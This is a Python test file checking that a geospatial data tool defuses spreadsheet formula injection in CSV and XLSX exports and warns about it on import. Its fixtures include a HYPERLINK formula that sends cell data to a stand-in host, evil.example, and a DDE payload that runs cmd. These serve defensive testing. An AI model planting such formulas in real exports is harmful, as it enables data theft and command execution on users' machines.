"""Formula injection (issue 17 item 6): defused in CSV and XLSX exports, warned on import."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
from shapely import Point

from geomon import validate
from geomon.io import cells, export, read

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
NAMES = [HYPERLINK, DDE, "+86 138", "@SUM(1)", "\t=1", "-2+3", "-12.5", "普通名称"]
# what OWASP asks for in CSV: a leading ' on the six triggers; a plain number is no formula
CSV_NAMES = ["'" + n for n in NAMES[:6]] + ["-12.5", "普通名称"]


def outlets() -> gpd.GeoDataFrame:
    n = len(NAMES)
    frame = gpd.GeoDataFrame(
        {
            "code": [f"A{i}" for i in range(n)],
            "name": NAMES,
            "stage": ["已排查"] * n,
            "receiving_water": ["汉江"] * n,
        },
        geometry=[Point(112.5 + i / 100, 30.25) for i in range(n)],
        crs=4326,
    )
    return validate.apply_dtypes(frame, "outlets")


def test_formula_mask_finds_the_owasp_triggers_only() -> None:
    column = pd.Series([*NAMES, None, 7, "a=b"], dtype=object)
    assert cells.formula_mask(column).tolist() == [True] * 6 + [False] * 5


def test_csv_export_prefixes_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    data = export.export_bytes(outlets(), "outlets", "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["排污口名称"] for r in rows] == CSV_NAMES
    assert rows[0]["经度"] == "112.5"  # coordinates stay plain numbers
    path = tmp_path / "outlets.csv"
    path.write_bytes(data)
    gdal = pyogrio.read_dataframe(path)  # GDAL's own reader sees the same text
    assert gdal["排污口名称"].tolist() == CSV_NAMES


def test_xlsx_export_writes_text_cells_never_formulas() -> None:
    data = export.export_bytes(outlets(), "outlets", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    col = header.index("排污口名称") + 1
    got = [sheet.cell(row=r, column=col) for r in range(2, len(NAMES) + 2)]
    assert [c.value for c in got] == NAMES  # the exact text, no apostrophe
    assert {c.data_type for c in got} == {"s"}
    lon = sheet.cell(row=2, column=header.index("经度") + 1)
    assert (lon.value, lon.data_type) == (112.5, "n")


def test_exported_csv_and_xlsx_come_back_unchanged_with_a_warning(tmp_path: Path) -> None:
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"outlets.{fmt}"
        path.write_bytes(export.export_bytes(outlets(), "outlets", fmt))
        got = read(path, "outlets")
        assert got.frame["name"].tolist() == NAMES, fmt
        checked = validate.validate(got.frame, "outlets", report=got.report).report
        warned = [(i.row, i.field) for i in checked.issues if i.code == "formula_text"]
        assert warned == [(r, "name") for r in range(1, 7)], fmt
        assert all(i.severity == "warning" for i in checked.issues if i.code == "formula_text")
